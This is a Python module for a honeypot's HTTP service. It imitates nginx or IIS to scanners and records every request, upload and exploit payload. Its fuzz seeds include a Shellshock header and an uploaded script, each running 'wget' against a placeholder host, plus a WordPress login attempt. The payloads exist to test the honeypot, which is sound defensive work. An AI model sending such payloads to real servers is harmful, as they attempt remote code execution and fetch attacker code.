"""HTTP and HTTPS: a web server that scanners take for the persona's IIS or nginx.

Answers come from a server profile (`nginx.py`, `iis.py`) chosen by the persona's
Server string; requests are parsed with httptools (llhttp) and every request,
body, upload, login and exploit payload is recorded.
"""

from __future__ import annotations

import secrets
import time

from muscipula.protocols.http import records  # noqa: F401 - registers tables and JSON detail
from muscipula.protocols.http.config import HttpConfig
from muscipula.protocols.http.content import build_lures, build_site
from muscipula.protocols.http.machine import HttpMachine, HttpService
from muscipula.protocols.http.profile import pick
from muscipula.services import ServiceContext, ServiceSpec


def service(ctx: ServiceContext) -> HttpService:
    cfg: HttpConfig = ctx.config
    profile = pick(ctx.persona.product("http"), cfg.gzip, cfg.directory_listing)
    # the default site's files date from when the server was set up, some months back
    installed = int(ctx.persona.secrets.get(
        "http.site_mtime",
        lambda: int(time.time()) - 30 * 86400 - secrets.randbelow(300 * 86400)))
    site = build_site(cfg, ctx.persona, profile.windows, installed, profile.default_type)
    return HttpService.make(cfg, profile, site, build_lures(cfg, ctx.persona))


def build(ctx: ServiceContext):
    svc = service(ctx)
    return lambda peer: HttpMachine(svc, peer)


def _max_buffer(cfg: HttpConfig) -> int:
    head = max(cfg.max_header_bytes or 0, cfg.max_request_line or 0, 32 * 1024)
    return head + cfg.max_body_keep + 256 * 1024


SERVICE = ServiceSpec(
    "http", "httpd", HttpConfig, build, "HTTP/1.x and HTTPS as the persona's IIS or nginx",
    max_buffer=_max_buffer,
    fuzz_seeds=(
        b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"POST /wp-login.php HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-"
        b"urlencoded\r\nContent-Length: 17\r\n\r\nlog=admin&pwd=123",
        b"PUT /up.bin HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"5\r\nhello\r\n0\r\n\r\n",
        b"POST /u HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=XX\r\n"
        b"Content-Length: 96\r\n\r\n--XX\r\nContent-Disposition: form-data; name=\"f\"; "
        b"filename=\"a.sh\"\r\n\r\nwget http://1.2.3.4/x\r\n--XX--\r\n",
        b"GET /cgi-bin/a HTTP/1.1\r\nHost: a\r\nUser-Agent: () { :; }; wget http://h/x\r\n\r\n",
        b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm\r\n\r\n",
        b"GET / HTTP/1.0\r\n\r\nGET /x HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
    ),
)
